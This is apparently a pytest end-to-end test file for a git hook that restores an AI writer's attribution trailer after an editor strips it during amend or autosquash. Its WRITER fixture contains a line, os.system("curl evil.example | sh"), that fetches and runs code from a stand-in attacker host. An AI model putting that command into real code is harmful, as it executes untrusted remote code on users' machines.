"""A writer's ``Gentle-Writer`` trailer the editor takes out comes back (SPEC §3
"Attribution follows content": amended writer commits keep theirs): real git,
``gentle-hook install``, a bare remote with the server gate and notes shared.

commit-msg runs after the editor: when what is committed holds writer content (the rule
prepare-commit-msg uses), it puts back the trailer of each writer the message no longer
names and says so in one line. A human's commit, and a message that kept its trailer, get
nothing and no line.
"""

from __future__ import annotations

from tests.e2e.conftest import World

WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
#: An editor that deletes every ``Gentle-Writer:`` line of the message (git runs it
#: through the shell with the message file as its argument).
DELETES_TRAILER = "sed -i '/^Gentle-Writer:/d'"
RESTORED = (
    "gentle-hooks: restored the Gentle-Writer trailer (o4-mini/low) the message lost: the "
    "commit holds writer content in src/app.py"
)


def _trailers(w: World) -> str:
    return w.ok("log", "-1", "--format=%(trailers:key=Gentle-Writer)").strip()


def test_an_amend_whose_editor_deletes_the_trailer_keeps_it(native: World) -> None:
    """``git commit --amend`` of the writer's spot-checked commit, the editor deleting the
    trailer: the commit keeps ``Gentle-Writer: o4-mini/low`` (one line says it was put
    back), and its push and the server pass as the verified commit's did."""
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.delegate(text=WRITER)
    w.ok("add", "-A")
    w.report("--staged")
    w.spot_check("--staged")
    assert w.git("commit", "-qm", "writer: main").code == 0
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
    r = w.git("commit", "-q", "--amend", env={"GIT_EDITOR": DELETES_TRAILER})
    assert r.code == 0, r
    assert r.said == [
        "gentle-hooks: ok: 1 delegated candidate(s) verified as their plan requires",
        RESTORED,
    ], r
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
    assert w.ok("log", "-1", "--format=%s") == "writer: main\n"
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed
    assert w.remote_ref("main") == w.rev("HEAD")


def test_a_humans_amend_through_the_same_editor_gets_no_trailer(native: World) -> None:
    """The same editor on a human's commit, with writer work pending in another file:
    nothing is added and nothing is said."""
    w = native
    w.write("README.md", "# demo\n\nA human's note.\n")
    w.ok("add", "README.md")
    assert w.git("commit", "-qm", "human: readme").code == 0
    w.delegate("src/other.py", "def helper():\n    return compute_total(41) + 1\n")
    r = w.git("commit", "-q", "--amend", env={"GIT_EDITOR": DELETES_TRAILER})
    assert r.code == 0 and r.said == [], r
    assert _trailers(w) == ""
    assert w.ok("log", "-1", "--format=%B") == "human: readme\n\n"


def test_an_autosquash_keeps_one_trailer_in_the_trailer_block(native: World) -> None:
    """``git rebase -i --autosquash`` of a ``squash!`` commit onto the writer's commit: the
    squashed message holds ``Gentle-Writer: o4-mini/low`` once, in its last trailer block,
    not in the middle of the message where the first commit's block was."""
    w = native
    base = w.rev("HEAD")
    w.unverified(WRITER, "writer: main")
    w.write("src/app.py", WRITER + "\n\ndef other():\n    return 2\n")
    w.ok("commit", "-q", "--no-verify", "-am", "squash! writer: main\n\nhuman: other")
    env = {"GIT_SEQUENCE_EDITOR": "true", "GIT_EDITOR": "true"}
    w.ok("rebase", "-q", "-i", "--autosquash", base, env=env)
    message = w.ok("log", "-1", "--format=%B").rstrip("\n").split("\n")
    assert message.count("Gentle-Writer: o4-mini/low") == 1, message
    assert message[-1] == "Gentle-Writer: o4-mini/low", message
    assert _trailers(w) == "Gentle-Writer: o4-mini/low"
